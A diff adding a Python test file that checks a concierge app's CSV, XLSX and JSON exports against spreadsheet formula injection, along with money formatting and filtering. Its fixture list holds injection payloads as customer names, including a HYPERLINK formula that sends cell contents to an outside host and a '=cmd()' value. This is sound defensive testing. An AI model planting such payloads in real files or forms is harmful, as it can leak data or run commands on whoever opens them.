@@ -1,0 +1,134 @@
+"""Exports: what customers write never runs as a formula, and money stays a number."""
+
+import csv
+import io
+import json
+from datetime import timedelta
+
+import openpyxl
+import pytest
+
+from concierge.domain.errors import UserError
+from concierge.domain.views.desk import CommissionFilter, GestureFilter
+from concierge.services.exports import FORMATS, TABLES, export
+from concierge.services.ingest import StoreIngest
+from tests.fakes import records as r
+from tests.fakes.contacts import call, plan, sold
+from tests.fakes.house import fill
+
+EVIL = [
+    '=HYPERLINK("http://example.com/?"&A1,"click")',
+    "+33 1 23",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def csv_rows(data):
+    assert data.startswith(b"\xef\xbb\xbf")
+    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))
+
+
+def sheet(data):
+    rows = list(openpyxl.load_workbook(io.BytesIO(data)).active.iter_rows())
+    head = [cell.value for cell in rows[0]]
+    return [dict(zip(head, row, strict=True)) for row in rows[1:]]
+
+
+@pytest.fixture
+def written(local_workplace):
+    """An order for each evil name; tabs and line ends come from outside only."""
+    orders = [r.order(number, name=words) for number, words in enumerate(EVIL, 1)]
+    fill(local_workplace, [r.client(1, first_name="=cmd()", last_name="Bold")], orders)
+    return local_workplace
+
+
+def test_a_formula_is_text_in_csv(written):
+    found = {row["name"] for row in csv_rows(export(written, "orders", "csv"))}
+    assert found == {f"'{words}" for words in EVIL}
+    (client,) = csv_rows(export(written, "clients", "csv"))
+    assert client["name"] == "'=cmd() Bold"
+
+
+def test_a_formula_is_text_in_a_sheet_and_nothing_is_added_to_it(written):
+    cells = [row["name"] for row in sheet(export(written, "orders", "xlsx"))]
+    assert {cell.data_type for cell in cells} == {"s"}
+    assert {cell.value.replace("_x000D_", "\r") for cell in cells} == set(EVIL)
+
+
+def test_json_keeps_the_words_as_they_are(written):
+    found = {row["name"] for row in json.loads(export(written, "orders", "json"))}
+    assert found == set(EVIL)
+
+
+@pytest.fixture
+def earned(local_workplace):
+    """A sale of 1,000.00 of which half came back: 60.00 and -30.00."""
+    (client,) = fill(local_workplace)
+    call(local_workplace, client, r.NOW - timedelta(days=31))
+    sale = sold(1, 1, 30, refunds=(r.refund(1, 50_000),))
+    StoreIngest(local_workplace).apply(1, "orders", [sale], None)
+    return local_workplace
+
+
+def test_negative_money_is_a_number_in_every_format(earned):
+    rows = csv_rows(export(earned, "commissions", "csv"))
+    assert sorted(row["commission"] for row in rows) == ["-30.00", "60.00"]
+    assert sorted(row["net_sale"] for row in rows) == ["-500.00", "1000.00"]
+    cells = [row["commission"] for row in sheet(export(earned, "commissions", "xlsx"))]
+    assert {cell.data_type for cell in cells} == {"n"}
+    assert sorted(cell.value for cell in cells) == [-30, 60]
+    found = json.loads(export(earned, "commissions", "json"))
+    assert sorted(row["commission"] for row in found) == ["-30.00", "60.00"]
+
+
+def test_the_filter_narrows_the_file(earned):
+    none = CommissionFilter(month="1999-01")
+    assert json.loads(export(earned, "commissions", "json", none)) == []
+    all_of_it = json.loads(export(earned, "commissions", "json"))
+    assert len(all_of_it) == 2
+
+
+def test_gestures_are_filtered_by_their_month(local_workplace):
+    (client,) = fill(local_workplace)
+    plan(local_workplace, client)
+    for month, count in (("2026-06", 1), ("2026-05", 0)):
+        found = json.loads(export(local_workplace, "gestures", "json", GestureFilter(month)))
+        assert len(found) == count
+
+
+@pytest.mark.parametrize("kind", FORMATS)
+@pytest.mark.parametrize("what", TABLES)
+def test_an_empty_house_exports_heads_alone(local_workplace, what, kind):
+    data = export(local_workplace, what, kind)
+    if kind == "csv":
+        assert csv_rows(data) == []
+    elif kind == "json":
+        assert json.loads(data) == []
+    else:
+        assert openpyxl.load_workbook(io.BytesIO(data)).active.max_row == 1
+
+
+def test_every_table_holds_what_happened(earned):
+    (client,) = [row["id"] for row in json.loads(export(earned, "clients", "json"))]
+    plan(earned, client)
+    (order,) = json.loads(export(earned, "orders", "json"))
+    assert (order["name"], order["client_id"], order["net"]) == ("#4501", client, "1000.00")
+    (gesture,) = csv_rows(export(earned, "gestures", "csv"))
+    assert (gesture["cost"], gesture["final_cost"]) == ("9.50", "")
+    late = r.parcel(promised_at=r.NOW - timedelta(days=2))
+    StoreIngest(earned).apply(1, "orders", [r.order(2, parcels=(late,))], None)
+    (parcel,) = csv_rows(export(earned, "parcels", "csv"))
+    assert (parcel["order"], parcel["late"], parcel["last_word"]) == (
+        "#4502",
+        "yes",
+        "Memphis Arrived at the hub",
+    )
+
+
+@pytest.mark.parametrize(("what", "kind"), [("salaries", "csv"), ("clients", "pdf")])
+def test_an_unknown_table_or_format_says_what_there_is(local_workplace, what, kind):
+    with pytest.raises(UserError, match=r"clients|xlsx"):
+        export(local_workplace, what, kind)
